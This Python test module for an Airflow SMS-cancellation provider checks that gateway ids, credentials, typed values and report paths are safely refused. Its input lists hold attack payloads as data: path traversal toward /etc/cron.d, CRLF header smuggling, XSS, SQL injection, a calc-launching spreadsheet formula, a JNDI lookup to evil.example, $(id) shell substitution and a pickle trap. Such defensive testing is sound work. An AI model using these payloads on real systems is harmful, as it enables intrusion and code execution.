"""Ids, credentials, SQL results and paths as an attacker would write them."""

from __future__ import annotations

import contextlib
import datetime as dt
import decimal
import json
import os
import pickle
import sqlite3
import tempfile
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlsplit
from xml.etree import ElementTree as ET

from support.ground_truth import FORMATS
from support.sandbox_process import SandboxProcess
from support.tls import Witness, answer

from airflow_provider_smscancel.campaigns.messages import Campaign
from airflow_provider_smscancel.common.report_folder import (
    default_report_path,
    open_path,
    read_report_path,
)
from airflow_provider_smscancel.gateways.base import Gateway, Request
from airflow_provider_smscancel.gateways.clickatell import ClickatellRest
from airflow_provider_smscancel.sandbox import CLICKATELL_TOKEN
from airflow_provider_smscancel.transport.endpoint import Endpoint
from torture.hostile_hosts import FORMATS as HOOKS
from torture.hostile_hosts import hook_to, plain_environment, said_by, ways
from torture.hostile_manifests import Trap
from torture.plan import Plan, Row

IDS = (
    "../balance", "..", "./x", "a/../../account/balance", "a%2f..%2fbalance", "%2e%2e", "%2e%2e%2fbalance", "a?b=c",
    "a#b", "a;b", "a&user=x", "a=b", "a\u2215b", "a\uff0fb", "\uff0e\uff0e/x", "a\\b", "a\r\nX-Evil: 1", "a\nb", "a\rb",
    "a\0b", "a\u2028b", "a\u2029b", "a\u0085b", "a\x1b[31mb", "a\u202eb", "\u2066a", "a\ufeffb", "a\ud800b", "a b",
    "a\tb", '=cmd|" /C calc"!A0', "=1+1", "+1", "@SUM(1)", "-2+3", "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>', "';DROP TABLE x;--", "</Guid><Guid>", "<!ENTITY x 'y'>", "]]>", '","b":"',
    "{{ conn.sms.password }}", "${jndi:ldap://evil.example/x}", "$(id)", "`id`", "%s%s%n", "{0}", "a" * 65, "a" * 100_000,
    "\U0001f600", "\u0441lickatell",
)  # fmt: skip
CREDENTIALS = (
    "word\r\nX-Evil: 1", "word\nX-Evil: 1", "word\r\n\r\nGET /evil HTTP/1.1\r\n\r\n", "word\0x", "word\u2028X-Evil: 1",
    "word\u0085X-Evil: 1", "w\u00f6rd", "wo rd", "word&user=other", "word\x1b[31m", "word\u202e", "../word", "w?x=y#z",
    "<a>&b;", '"}],"x":[{"', "{{ x }}", "%0d%0aX-Evil:1",
)  # fmt: skip
HEADERS = {"host", "user-agent", "accept-encoding", "accept", "authorization", "x-version", "content-type",
           "content-length", "connection", "soapaction"}  # fmt: skip


# -- ids --------------------------------------------------------------------------------------------------------------


def attack_ids(_plan: Plan) -> list[Row]:
    """Give such ids to every gateway: to its check, and behind its back to what builds the requests."""
    tried = [(name, text) for name in FORMATS for text in IDS]
    gateways = {name: make("http://127.0.0.1:9/base") for name, make in FORMATS.items()}
    wrong = [f"{name}: {text[:40]!r}" for name, text in tried if not _is_harmless(gateways[name], text)]
    return [
        Row(
            "ids with paths, line ends, markup, formulas, templates, on the wire",
            len(tried), "ids", len(wrong), "; ".join(wrong[:3]) or "each refused, and quoted were it not",
        ),
        _rejected_ids(),
    ]  # fmt: skip


def _is_harmless(gateway: Gateway, text: str) -> bool:
    for id_type in gateway.id_types:
        error = gateway.id_error(text, id_type)
        if error is None or not error.isprintable() or text in error:
            return False
        plain = "plain"
        for make in (gateway.stop, gateway.status):
            # What can't be encoded, or not in XML, is stopped by the check alone.
            with contextlib.suppress(UnicodeEncodeError, ET.ParseError):
                if _shape(make(text, id_type), text) != _shape(make(plain, id_type), plain):
                    return False
    return True


def _shape(request: Request, message_id: str) -> object:
    """Say what a server makes of a request, with a mark in place of the id."""
    Endpoint("http://127.0.0.1:9/base").check(request)
    parts = urlsplit(request.url)
    body = request.body or b""

    def marked(text: str) -> str:
        quoted = {
            message_id,
            quote(message_id, safe="", errors="replace"),
            message_id.encode(errors="replace").decode(),
        }
        return "ID" if text in quoted or text.strip() in {each.strip() for each in quoted} else text

    path = [marked(part) for part in parts.path.split("/")]
    query = [(key, marked(value)) for key, value in parse_qsl(parts.query, keep_blank_values=True)]
    return path, query, dict(request.headers), _body(body, marked)


def _body(body: bytes, marked: Callable[[str], str]) -> object:
    if body.startswith(b"<"):
        return [each.tag for each in ET.fromstring(body).iter()]  # noqa: S314 - what this package wrote
    if body.startswith(b'"'):
        return marked(json.loads(body))
    return [(key, marked(value)) for key, value in parse_qsl(body.decode(), keep_blank_values=True)]


def _rejected_ids() -> Row:
    """Run a campaign in which one message is real, at a sandbox that counts what it is asked."""
    with SandboxProcess() as sandbox, plain_environment():
        (real,) = sandbox.seed("clickatell", 1)
        hook = hook_to(sandbox.url, secret=CLICKATELL_TOKEN)
        results = list(hook.cancel_messages([*IDS, real]))
        asked, record = sandbox.requests_so_far("clickatell"), sandbox.truth()
    rejected = [each for each in results if each.outcome.value == "rejected"]
    echoed = [
        each
        for each in rejected
        if not each.message_id.startswith("item ") or not each.detail.startswith("item ")
    ]
    lost = len(IDS) - len(rejected) + len(echoed) + (asked != 1) + (record[real]["state"] != "cancelled")
    return Row(
        "the same ids in a campaign with one real message",
        len(IDS) + 1, "messages", lost, f"{len(rejected)} rejected by position, {asked} request, the real one stopped",
    )  # fmt: skip


# -- credentials ------------------------------------------------------------------------------------------------------


def attack_credentials(_plan: Plan) -> Row:
    """Put such texts into token, user name, password, API id and client ids, and read what a server hears."""
    jobs = [(name, text) for name in HOOKS for text in CREDENTIALS]
    with plain_environment(), ThreadPoolExecutor(8) as pool:
        wrong = [text for texts in pool.map(lambda job: _injected(*job), jobs) for text in texts]
    return Row(
        "line ends and markup in tokens, user names, API and client ids",
        len(jobs), "connections", len(wrong), "; ".join(wrong[:3]) or "0 headers, lines or fields smuggled in",
    )  # fmt: skip


def _injected(format_name: str, text: str) -> list[str]:
    with Witness(lambda _: answer(status="400 Bad Request")) as server:
        hook = hook_to(f"http://127.0.0.1:{server.port}", format_name, secret=text, timeout=1)
        if format_name == "clickatell http":
            hook = _with_login(hook, text)
        calls = ways(hook, deadline=0.3)
        calls["client id"] = lambda: str(hook.send_message("27999000001", "x", client_message_id=text))
        del calls["a status"], calls["a single call"]  # as the others, but repeated for seconds
        told = [said_by(call) for call in calls.values()]
        wrong = [f"{format_name}: told {each[:60]!r}" for each in told if not each.isprintable()]
        for request in server.requests:
            head = request.partition(b"\r\n\r\n")[0].split(b"\r\n")
            names = {line.partition(b":")[0].decode("latin-1").lower() for line in head[1:]}
            if not names <= HEADERS or head[0].count(b" ") != 2 or b"/evil" in head[0]:
                wrong.append(f"{format_name}: {sorted(names - HEADERS)}")
    return wrong


def _with_login(hook: Any, text: str) -> Any:
    name = f"AIRFLOW_CONN_{hook.conn_id.upper()}"
    fields = json.loads(os.environ[name])
    fields["login"] = fields["extra"]["api_id"] = text
    os.environ[name] = json.dumps(fields)
    return type(hook)(hook.conn_id)


# -- values of other types, and paths ---------------------------------------------------------------------------------


def attack_values(_plan: Plan) -> Row:
    """Give values of every type as ids and as dates, as databases return them."""
    deep: list[Any] = []
    for _ in range(100_000):
        deep = [deep]
    values: list[Any] = [
        b"a" * 32, bytearray(b"a"), memoryview(b"a"), 1, 10**400, -0.0, float("nan"), float("inf"), True, None,
        decimal.Decimal("1E+999999"), decimal.Decimal("sNaN"), dt.datetime.now(dt.UTC), dt.date.max, dt.timedelta.max,
        {"a": 1}, ["a"], ("a",), {"a"}, range(3), uuid.uuid4(), deep, pickle.dumps(Trap()), Trap(), object, "None", "nan", "",
        "\0", "a\ud800", sqlite3.Binary(b"x"), dt.datetime.max.replace(tzinfo=dt.timezone(-dt.timedelta(hours=23))),
    ]  # fmt: skip
    with contextlib.suppress(ImportError):
        import pandas as pd

        values += [pd.NaT, pd.NA, pd.Timestamp.max]
    wrong = []
    for number, value in enumerate(values):
        campaign = Campaign(ClickatellRest(token=CLICKATELL_TOKEN))
        try:
            campaign.add(value, None, "row 1")
            campaign.add(f"{number:032x}", value, "row 2")
            if campaign.index_of(f"{number:032x}") is None or campaign.total != 2:
                wrong.append(f"{number}: a row was lost")
        except Exception as error:  # that is what is looked for
            wrong.append(f"{type(value).__name__}: {type(error).__name__}")
    wrong += ["a pickle was loaded"] * Trap.where.exists()
    return Row(
        "values of every type as ids and dates, pickles among them",
        2 * len(values), "values", len(wrong), "; ".join(wrong[:3]) or "0 lost, 0 loaded, 0 broke the list",
    )  # fmt: skip


PATHS = (
    "/reports/../../etc/cron.d", "/reports/..", "..", "../x", "reports", "s3://user:word@bucket/x", "s3://bucket/x?token=word",
    "s3://bucket/../x", "/reports/x\n[INFO] all stopped", "/reports/\x1b[31m", "/reports/\u202egnp", "/reports/\0x",
    "/reports/\u2028x", "file:///reports/x::memory://y", "simplecache::file:///x", "javascript:alert(1)", "http://127.0.0.1:9/x",
    "file://evil.example/x", "data:text/html,x", "/reports/\ud800",
)  # fmt: skip
NAMES = (
    "..",
    ".",
    "../../etc",
    "a/b",
    "a\\b",
    "a::b",
    "a\nb",
    "a\0b",
    "\u202eb",
    "%2e%2e",
    "~",
    "a?b",
    "a#b",
    "",
    "\ud800",
)


def attack_paths(_plan: Plan) -> Row:
    """Give such paths for a report, and such names of DAGs, runs and tasks to the default folder."""
    accepted = [path for path in PATHS if not _refused(path)]
    with (
        tempfile.TemporaryDirectory() as root,
        plain_environment(AIRFLOW__SMSCANCEL__REPORT_FOLDER=f"file://{root}"),
    ):
        for name in NAMES:
            path = default_report_path("dag", name, "task") or ""
            opened = Path(open_path("report_path", path).path)
            inside = opened.is_relative_to(root) and ".." not in opened.parts
            if not (
                inside and len(opened.relative_to(root).parts) >= (3 if name else 2) and path.isprintable()
            ):
                accepted.append(repr(name))
    return Row(
        "report paths that lead elsewhere, hold a secret or break a line; names in them",
        len(PATHS) + len(NAMES), "paths", len(accepted), f"{len(accepted)} accepted {accepted or ''}".strip(),
    )  # fmt: skip


def _refused(path: str) -> bool:
    try:
        open_path("report_path", read_report_path(path) or "")
    except ValueError as error:
        return str(error).isprintable() and "word" not in str(error)
    return False
